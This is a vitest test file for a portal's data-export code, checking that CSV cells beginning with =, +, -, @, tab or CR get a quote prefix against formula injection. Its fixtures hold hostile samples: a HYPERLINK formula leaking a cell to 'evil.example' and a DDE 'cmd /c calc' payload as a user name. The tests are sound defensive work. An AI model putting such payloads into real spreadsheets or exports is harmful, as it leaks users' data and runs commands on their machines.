import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutralise } from '../../../src/modules/dsr/export/cells.ts';
import {
  type ExportFixture,
  type ExportResult,
  runExport,
  startExportFixture,
} from './support/export-fixture.ts';

const DANGEROUS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"open")',
  '+1',
  '-2',
  '@SUM(A1:A9)',
  '\tTAB',
  '\rCR',
];

let fixture: ExportFixture;
let result: ExportResult;
let subject: number;

beforeAll(async () => {
  fixture = await startExportFixture({ sandbox: { dataset: 'empty' } });
  const { seed } = fixture.portal;
  subject = seed.user({ NAME: '=cmd|"/c calc"!A0', LAST_NAME: 'Doe', EMAIL: 'jane@example.test' }).ID;
  const chat = seed.chat([subject, 1], { title: '+team', type: 'chat' });
  for (const text of DANGEROUS) {
    const post = seed.post(subject, text, { title: text });
    seed.comment(post.id, subject, text);
    seed.message(chat.id, subject, text);
    seed.task(text, subject, subject, { description: text });
    seed.calendarEvent(subject, text, { description: text });
  }
  result = await runExport(fixture, subject);
});
afterAll(() => fixture?.close());

describe('formula injection (OWASP CSV injection)', () => {
  it('prefixes a quote to cells that start with =, +, -, @, tab or CR', () => {
    expect(DANGEROUS.map(neutralise)).toEqual(DANGEROUS.map((text) => `'${text}`));
    for (const safe of ['plain', '1', '', ' =not first', "'already"]) expect(neutralise(safe)).toBe(safe);
  });

  it('neutralises every portal text in every file: posts, comments, messages, tasks, calendar, profile', () => {
    const columns: [string, string][] = [
      ['posts', 'text'],
      ['posts', 'title'],
      ['comments', 'text'],
      ['chat-messages', 'text'],
      ['tasks', 'title'],
      ['tasks', 'description'],
      ['calendar', 'name'],
      ['calendar', 'description'],
    ];
    for (const [file, column] of columns) {
      const cells = result.csv(file).rows.map((row) => row[column]);
      expect(cells, `${file}.${column}`).toHaveLength(DANGEROUS.length);
      expect(new Set(cells), `${file}.${column}`).toEqual(new Set(DANGEROUS.map((text) => `'${text}`)));
    }
    expect(result.csv('chat-messages').rows[0]?.chat_title).toBe("'+team");
    const profile = new Map(result.csv('profile').rows.map((r) => [r.field, r.value]));
    expect(profile.get('NAME')).toBe('\'=cmd|"/c calc"!A0');
  });

  it('writes our own numbers (ids) as plain numbers', () => {
    for (const row of result.csv('chat-messages').rows) expect(row.message_id).toMatch(/^\d+$/);
    for (const row of result.csv('tasks').rows) expect(row.task_id).toMatch(/^\d+$/);
  });

  it('keeps the text intact otherwise: the CSV round-trips to the portal text behind the quote', () => {
    const texts = result.csv('posts').rows.map((row) => row.text?.slice(1));
    expect(new Set(texts)).toEqual(new Set(DANGEROUS));
  });
});
